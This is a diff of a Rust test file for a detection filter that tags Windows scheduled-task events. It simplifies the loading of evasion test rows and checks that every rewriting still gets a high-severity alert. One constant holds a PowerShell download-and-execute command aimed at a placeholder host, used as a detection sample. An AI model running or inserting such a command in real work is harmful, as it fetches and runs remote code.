@@ -4,14 +4,10 @@
 //! testdata/evasion.ndjson says in words what is rewritten, and gives the rewritten part: `command` and
 //! `arguments` of the action, the whole `content` of the task, or the whole `record`.
 
-#![expect(clippy::indexing_slicing, reason = "a failing helper fails its test")]
-
 use schtag_tests::catalogue;
 use schtag_tests::filter::{self, Filter};
 use schtag_tests::samples::{Sample, Shape, escape_xml};
 use schtag_tests::table;
-use serde::Deserialize;
-use serde_json::value::RawValue;
 
 /// What the encoded command says.
 const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')";
@@ -26,48 +22,20 @@ const CORE: &[&str] = &[
     "url-in-action",
 ];
 
-#[derive(Debug, Deserialize)]
-#[serde(deny_unknown_fields)]
 struct Row {
     rewriting: String,
-    command: Option<String>,
-    arguments: Option<String>,
-    content: Option<String>,
-    record: Option<Box<RawValue>>,
-    shape: Option<String>,
+    record: String,
 }
 
-impl Row {
-    fn record(&self) -> Result<String, String> {
-        let shape = match self.shape.as_deref() {
-            None => Shape::Flat,
-            Some(name) => named_shape(name).ok_or_else(|| format!("there is no shape {name}"))?,
-        };
-        let content = match (&self.command, &self.content, &self.record) {
-            (Some(command), None, None) => self.task(command),
-            (None, Some(content), None) => content.clone(),
-            (None, None, Some(record)) => return Ok(record.get().to_owned()),
-            _ => return Err("needs one of `command`, `content` and `record`".into()),
-        };
-        Ok(Sample { content, ..Sample::new(4698, "", "") }.record(shape))
-    }
-
-    fn task(&self, command: &str) -> String {
-        let task = Sample::new(4698, command, self.arguments.as_deref().unwrap_or_default()).content;
-        match self.arguments {
-            Some(_) => task,
-            None => task.replace("<Arguments></Arguments>", ""),
-        }
-    }
-}
-
-fn named_shape(name: &str) -> Option<Shape> {
-    let plain = |text: &str| text.replace('_', "").to_lowercase();
-    Shape::ALL.into_iter().find(|shape| plain(&format!("{shape:?}")) == plain(name))
+fn rows() -> Vec<(String, Row)> {
+    table::testdata("evasion.ndjson", |mut row| {
+        Ok(Row { rewriting: row.need("rewriting")?, record: table::record(row)? })
+    })
+    .unwrap()
 }
 
 fn judge(row: &Row, rules: &[catalogue::Rule], filter: &mut Filter) -> Result<(), String> {
-    let tag = filter.tag(&row.record()?, 0)?;
+    let tag = filter.tag(&row.record, 0)?;
     if (&tag["verdict"], &tag["severity"]) != (&"alert".into(), &"high".into()) {
         return Err(format!("verdict {}, severity {}", tag["verdict"], tag["severity"]));
     }
@@ -87,7 +55,7 @@ fn judge(row: &Row, rules: &[catalogue::Rule], filter: &mut Filter) -> Result<()
 fn every_rewriting_gets_the_same_verdict() {
     let rules = catalogue::rules().unwrap();
     let mut filter = Filter::new(&filter::module().unwrap()).unwrap();
-    let rows: Vec<(String, Row)> = table::testdata("evasion.ndjson").unwrap();
+    let rows = rows();
     assert!(rows.len() >= 60);
     let mut failures = Vec::new();
     for (place, row) in &rows {
